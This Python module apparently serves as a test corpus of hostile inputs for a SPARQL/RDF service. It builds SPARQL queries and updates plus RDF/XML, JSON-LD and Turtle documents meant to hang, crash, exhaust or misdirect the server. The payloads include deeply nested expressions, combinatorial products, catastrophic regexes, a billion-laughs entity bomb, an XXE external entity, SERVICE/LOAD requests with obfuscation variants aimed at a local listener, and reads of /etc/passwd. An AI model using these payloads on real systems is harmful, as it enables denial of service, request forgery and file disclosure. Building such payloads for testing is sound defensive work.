"""Poisons: requests made to hang, kill, fill or lead astray a service. ``{port}`` is where a listener waits.

Each has a name and is one of three: a query, an update, or a document with its media type.
"""

DEEP = 5000
CROSS = " . ".join(f"?s{n} ?p{n} ?o{n}" for n in range(6))
NUMBERS = " ".join(f"VALUES ?v{n} {{ {' '.join(map(str, range(100)))} }}" for n in range(6))
ANY = "(!(<x:a>|^<x:b>))"


def nested(before: str, after: str, inside: str = "", times: int = DEEP) -> str:
    return before * times + inside + after * times


def doubling(step: str, times: int = 40) -> str:
    return "SELECT (STRLEN(?v{n}) AS ?z) {{ BIND('0123456789' AS ?v0) {steps} }}".format(
        n=times, steps=" ".join(f"BIND({step.replace('?v', f'?v{n}')} AS ?v{n + 1})" for n in range(times))
    )


QUERIES = {
    # deep nesting
    "nested parentheses": f"SELECT * {{ FILTER({nested('(', ')', '1')}) }}",
    "nested groups": f"SELECT * {nested('{', '}')}",
    "nested groups, never closed": "SELECT * " + "{" * 100_000,
    "many unions": "SELECT * { {} " + "UNION {} " * 7000 + "}",
    "nested unions": f"SELECT * {nested('{ {} UNION ', '}', '{}', 3000)}",
    "nested optionals": f"SELECT * {{ {nested('OPTIONAL { ?a ?b ?c ', '}', '', 3000)} }}",
    "many optionals": "SELECT * { " + "OPTIONAL { ?a ?b ?c } " * 3000 + "}",
    "nested minus": f"SELECT * {{ {nested('MINUS { ?a ?b ?c ', '}', '', 3000)} }}",
    "nested not exists": f"SELECT * {{ {nested('FILTER NOT EXISTS { ?a ?b ?c ', '}', '', 3000)} }}",
    "nested graphs": f"SELECT * {{ {nested('GRAPH ?g { ', '}', '?a ?b ?c', 3000)} }}",
    "nested selects": f"SELECT * {{ {nested('{ SELECT * { ', '} }', '?a ?b ?c', 2000)} }}",
    "nested paths": f"SELECT * {{ ?a {nested('(', ')', '<x:p>')} ?b }}",
    "nested stars": f"SELECT * {{ ?a {nested('(', ')*', '<x:p>', 3000)} ?b }}",
    "nested inverses": f"SELECT * {{ ?a {nested('^(', ')', '<x:p>')} ?b }}",
    "a long path": "SELECT * { ?a " + "/".join(["<x:p>"] * 8000) + " ?b }",
    "a wide path": "SELECT * { ?a " + "|".join(["<x:p>"] * 8000) + " ?b }",
    "nested bind": f"SELECT * {{ BIND({nested('STR(', ')', '1')} AS ?x) }}",
    "nested nots": f"SELECT * {{ FILTER({'!' * 20_000}true) }}",
    "a long sum": f"SELECT * {{ BIND({'1+' * 20_000}1 AS ?x) }}",
    "a long alternative": f"SELECT * {{ FILTER({'?x||' * 20_000}?x) }}",
    "nested if": f"SELECT * {{ BIND({nested('IF(true, ', ', 1)', '1', 3000)} AS ?x) }}",
    "nested coalesce": f"SELECT * {{ BIND({nested('COALESCE(', ')', '1')} AS ?x) }}",
    "nested collections": f"SELECT * {{ ?s ?p {nested('(', ')')} }}",
    "nested blank nodes": f"SELECT * {{ ?s ?p {nested('[ ?p ', ']', '1')} }}",
    "nested triple terms": f"SELECT * {{ ?s ?p {nested('<<( ?a ?b ', ')>>', '?c', 3000)} }}",
    "many binds": "SELECT * { " + " ".join(f"BIND({n} AS ?b{n})" for n in range(5000)) + " }",
    "many values": "SELECT * { " + " ".join(f"VALUES ?v{n} {{ 1 }}" for n in range(4000)) + " }",
    # optimiser traps
    "250 collections": f"SELECT * {{ ?s ?p {nested('(', ')', '', 250)} }}",
    "30 joined patterns": "SELECT * { " + " . ".join(f"?a{n} ?b{n} ?a{n + 1}" for n in range(30)) + " }",
    "filters over unions": "SELECT * { "
    + " ".join(f"{{ ?a{n} ?b ?c }} UNION {{ ?c ?b ?a{n} }}" for n in range(30))
    + " }",
    "alternating optionals": "SELECT * { "
    + " ".join(f"OPTIONAL {{ ?a{n} ?b{n} ?a{n + 1} FILTER(?a0 != ?a{n}) }}" for n in range(40))
    + " }",
    # strings
    "doubling by concat": doubling("CONCAT(?v, ?v)"),
    "tenfold by concat": doubling(f"CONCAT({', '.join(['?v'] * 10)})", 10),
    "growth by replace": doubling("REPLACE(?v, '.', '0123456789')", 10),
    "growth by replaced groups": doubling("REPLACE(?v, '(.*)', '$1$1$1$1')", 20),
    "growth by percent": doubling("ENCODE_FOR_URI(CONCAT(?v, '%%%'))", 40),
    "a catastrophic pattern": "SELECT * { "
    + NUMBERS
    + f" FILTER(REGEX(CONCAT('{'a' * 3000}!', STR(?v0 + ?v5)), '^(a+)+(a|a)*(a?){{30}}a+$')) }}",
    "a new large pattern for each row": "SELECT * { "
    + NUMBERS
    + " FILTER(REGEX('a', CONCAT('(a{1,90}){1,', STR(?v5), '}b'))) }",
    "a large pattern": "SELECT * { FILTER(REGEX('a', '" + "(a{1,100}){1,100}" * 20 + "')) }",
    "a nested pattern": f"SELECT * {{ FILTER(REGEX('a', '{nested('(', ')', 'a', 20_000)}')) }}",
    "patterns from the data": f"SELECT * {{ {CROSS} FILTER(REGEX(STR(?o0), STR(?o1)) && REGEX(STR(?o2), '(.*)*')) }}",
    # products
    "a product": f"SELECT * {{ {CROSS} }}",
    "a product, counted": f"SELECT (COUNT(*) AS ?n) {{ {CROSS} }}",
    "a product, sorted": f"SELECT * {{ {CROSS} }} ORDER BY DESC(?o1) ?s2",
    "a product, distinct": f"SELECT DISTINCT * {{ {CROSS} }}",
    "a product, reduced by an offset": f"SELECT REDUCED * {{ {CROSS} }} OFFSET 9000000000",
    "a product in one string": f"SELECT (GROUP_CONCAT(STR(?o0)) AS ?x) {{ {CROSS} }}",
    "a product in groups": f"SELECT ?o0 ?o1 ?o2 (SAMPLE(?s3) AS ?x) {{ {CROSS} }} GROUP BY ?o0 ?o1 ?o2",
    "a product, distinct counts": f"SELECT (COUNT(DISTINCT ?o0) AS ?n) (SUM(?v0) AS ?m) {{ {CROSS} {NUMBERS} }}",
    "a product of values": f"SELECT (MAX(?v0 + ?v1) AS ?m) {{ {NUMBERS} }}",
    "a product, constructed": f"CONSTRUCT {{ ?s0 ?p1 ?o2 . [] ?p3 ?o4 }} WHERE {{ {CROSS} }}",
    "a product that is never true": f"ASK {{ {CROSS} FILTER(?o0 = <x:none> && ?s1 != ?o5) }}",
    "a product, described": f"DESCRIBE * {{ {CROSS} }}",
    "a product less a product": f"SELECT * {{ {CROSS} MINUS {{ {CROSS} FILTER(RAND() > 2) }} }}",
    "a product without one": f"SELECT * {{ {CROSS} FILTER NOT EXISTS {{ {CROSS} FILTER(?s0 = <x:none>) }} }}",
    "endless paths": f"SELECT (COUNT(*) AS ?n) {{ ?a {ANY}* ?b . ?b {ANY}* ?c . ?d {ANY}+ ?e . ?f {ANY}* ?g }}",
    "paths of paths": f"SELECT (COUNT(*) AS ?n) {{ ?a {nested('(', ')*', ANY, 12)}/{ANY}+/{ANY}+ ?b }}",
    "a huge list": "SELECT * { ?s ?p ?o FILTER(?o IN (" + ",".join(map(str, range(100_000))) + ")) }",
    "huge values": "SELECT * { VALUES ?x { " + " ".join(map(str, range(100_000))) + f" }} {CROSS} }}",
    "a huge number": f"SELECT (1{'0' * 500_000} * 1e308 AS ?x) {{}}",
    "the largest numbers": "SELECT (-9223372036854775808 / -1 AS ?a) (1 / 0.0 AS ?b) (ROUND(1e400) AS ?c) {} OFFSET "
    + "9" * 30,
    "a huge name": f"SELECT ?{'x' * 500_000} {{}}",
    "odd signs": "SELECT * { ?s ?p '\\uD800\\uDFFF\\u0000' }",
    # outside
    "service": "SELECT * { SERVICE <http://127.0.0.1:{port}/> { ?s ?p ?o } }",
    "service, silent, mixed case": "SELECT * { sErViCe/**/sIlEnT<http://127.0.0.1:{port}/>{ ?s ?p ?o } }",
    "service, silent": "SELECT * { {} OPTIONAL { sErViCe#\nsIlEnT<http://127.0.0.1:{port}/>{ ?s ?p ?o } } }",
    "service by a variable": "SELECT * { VALUES ?e { <http://127.0.0.1:{port}/> } SERVICE ?e { ?s ?p ?o } }",
    "service by escapes": "SELECT * { \\u0053ERVICE <http://127.0.0.1:{port}/> { ?s ?p ?o } }",
    "from": "SELECT * FROM <http://127.0.0.1:{port}/> FROM NAMED <file:///etc/passwd> { ?s ?p ?o }",
    "a graph elsewhere": "SELECT * { GRAPH <http://127.0.0.1:{port}/> { ?s ?p ?o } }",
    "load as a query": "LOAD <http://127.0.0.1:{port}/>",
}

UPDATES = {
    "load": "LOAD <http://127.0.0.1:{port}/>",
    "load, silent, second": "INSERT DATA {} ; lOaD#\nSILENT <http://127.0.0.1:{port}/> INTO GRAPH <x:g>",
    "load a file": "LOAD <file:///etc/passwd> INTO GRAPH <x:g>",
    "an update with service": "INSERT { ?s ?p ?o } WHERE { SERVICE SILENT <http://127.0.0.1:{port}/> { ?s ?p ?o } }",
    "an update with a product": f"INSERT {{ GRAPH <x:g> {{ ?s0 ?p1 ?o2 }} }} WHERE {{ {CROSS} FILTER(?o5 = 1) }}",
    "an update, nested": f"DELETE {{ ?a ?b ?c }} WHERE {nested('{', '}', '?a ?b ?c')}",
}

BOMB = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(9))
XML = '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:x="x:">'

DOCUMENTS = {
    "an entity bomb": (
        "application/rdf+xml",
        f'<!DOCTYPE r [<!ENTITY e0 "ha">{BOMB}]>{XML}<rdf:Description x:p="&e9;"/></rdf:RDF>',
    ),
    "an outer entity": (
        "application/rdf+xml",
        f'<!DOCTYPE r [<!ENTITY e SYSTEM "http://127.0.0.1:{{port}}/">]>{XML}<rdf:Description x:p="&e;"/></rdf:RDF>',
    ),
    "nested RDF/XML": (
        "application/rdf+xml",
        XML + nested("<rdf:Description><x:p>", "</x:p></rdf:Description>", "", 20_000) + "</rdf:RDF>",
    ),
    "nested JSON-LD": ("application/ld+json", nested('{"x:p":', "}", "1", 20_000)),
    "nested JSON-LD lists": ("application/ld+json", '{"x:p":' + nested('{"@list":[', "]}", "1", 20_000) + "}"),
    "a remote context": ("application/ld+json", '{"@context":"http://127.0.0.1:{port}/","@id":"x:a","p":1}'),
    "an imported context": (
        "application/ld+json",
        '{"@context":{"@version":1.1,"@import":"http://127.0.0.1:{port}/"},"@id":"x:a","p":1}',
    ),
    "nested collections in Turtle": ("text/turtle", f"<x:a> <x:p> {nested('(', ')', '', 50_000)} ."),
    "nested blank nodes in Turtle": ("text/turtle", f"<x:a> <x:p> {nested('[ <x:p> ', ']', '1', 50_000)} ."),
    "a gigantic literal": ("application/n-triples", f'<x:a> <x:p> "{"x" * 3_000_000}" .'),
    "a literal without an end": ("text/turtle", '<x:a> <x:p> """' + 'x"' * 500_000),
}
